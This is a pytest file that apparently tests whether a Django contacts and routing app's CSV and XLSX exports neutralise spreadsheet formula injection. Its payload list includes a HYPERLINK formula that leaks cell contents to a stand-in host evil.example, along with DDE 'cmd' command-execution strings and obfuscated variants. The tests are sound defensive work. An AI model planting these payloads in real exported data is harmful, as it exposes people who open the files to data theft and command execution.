"""Attack 21: no cell of an export is a formula to the spreadsheet that opens it."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from contacts.cells import guarded, unguarded
from contacts.models import Role, User
from contacts.registry_files.exporting import KINDS, table_for
from routing.models import Package
from tests import factories

EVIL = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "blank": " =1+1",
    "ideographic blank": "\u3000=1+1",
    "byte order mark": "\ufeff=1+1",
    "own apostrophe": "'=1+1",
    "control": "\x01=1+1",
}
FORMULA_STARTS = tuple("=+-@＝＋－＠\t\r\n")


@pytest.fixture
def routing_client(client, db):
    user = factories.make_user("router", is_staff=True)
    factories.give_role(user, Role.ROUTING_ADMIN)
    client.force_login(user)
    return client


def cells_of(client, kind):
    address = reverse("admin:routing_package_export")
    content = client.post(address, {"format": kind, "resource": "0"}).content
    return sheet_of(content, is_csv=kind == "0")


def sheet_of(content, *, is_csv):
    if is_csv:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("kind", ["0", "1"])
@pytest.mark.parametrize("text", EVIL.values(), ids=EVIL)
def test_export_holds_no_formula(routing_client, text, kind):
    Package.objects.create(name=text[:120], nicknames=text, vendor=text, vendor_phone=text[:40])

    rows = cells_of(routing_client, kind)

    assert len(rows) == 2
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert rows[1][0].startswith("'")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_list_of_the_registry_holds_no_formula(db, kind):
    admin = factories.make_user("admin")
    factories.give_role(admin, Role.SYSTEM_ADMIN)
    for number, text in enumerate(EVIL.values()):
        person = factories.make_user(f"p{number}")
        User.objects.filter(pk=person.pk).update(name=text)
        factories.make_contact(person, factories.make_organization(text), trailblazer_email=text)

    content = KINDS[kind].write(table_for(admin))

    rows = sheet_of(content, is_csv=kind == "csv")
    assert len(rows) == len(EVIL) + 1
    assert not [cell for row in rows for cell in row if str(cell).startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("number", [0, -5, 12.5, -0.1, None])
def test_number_stays_a_number(number):
    assert guarded(number) is number


@pytest.mark.parametrize("text", ["", "0123", "3-5", "a=b", "'quoted'", "O'Neill", "レポート"])
def test_harmless_text_stays_as_it_is(text):
    assert guarded(text) == text


@given(st.text(st.sampled_from([*FORMULA_STARTS, *"' ab\u3000\ufeff"]), max_size=6))
def test_guarded_text_is_no_formula_and_comes_back(text):
    assert not guarded(text).startswith(FORMULA_STARTS)
    assert unguarded(guarded(text)) == text
